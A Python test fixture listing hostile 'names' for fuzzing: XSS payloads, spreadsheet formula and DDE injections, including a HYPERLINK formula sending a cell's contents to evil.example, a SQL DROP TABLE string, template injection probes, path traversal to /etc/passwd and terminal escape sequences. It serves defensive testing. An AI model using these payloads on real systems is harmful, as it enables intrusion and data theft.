"""Names that try to be more than names: markup, formulas, templates, controls, addresses."""

NAMES = (
    # HTML and SVG
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>a</script>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", "<a href=javascript:alert(1)>x</a>", "<!--<script>-->",
    "]]><svg onload=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "</title><script>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>",
    "&lt;script&gt;", "&#60;script&#62;", "<details open ontoggle=alert(1)>", "<b>bold</b>",
    "<object data=//evil.example>", "<form action=//evil.example><button>go", "<?xml?>",
    # Formulas
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", "|calc", "%=1", "=cmd|'/C calc'!'A1'", "\uff1d1+1", "'=1", '"=1',
    # Markdown
    "[x](javascript:alert(1))", "![](http://evil.example/x.png)", "| a | b |", "```\nrm\n```",
    "# heading", "- item", "1. item", "@everyone", "#1", "*bold* _it_ ~~no~~", "<!---->",
    "http://evil.example", "www.evil.example", "[x]: http://evil.example", "$x$", "\\",
    # Templates and expressions
    "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "<%= 7 %>", "#{7*7}", "{0.__class__}", "%s%n%x",
    "datum.x'); alert(1); ('", "'; DROP TABLE changes; --",
    # Characters
    "\u202egnp.exe", "\u2028line", "a\x00b", "\x1b]0;pwn\x07", "\x1b[31mred", "\ud800", "\ufffe",
    "\u200b\u200b", "x" * 500, "\u05e9\u05dc\u05d5\u05dd", "e\u0301" * 40, "\U0001f600" * 30,
    "..", "../../etc/passwd", "file:///etc/passwd", "C:\\x", "CON", " ", "", "-rf", "--output=x",
    "\x7f\x80\x9f",
)  # fmt: skip
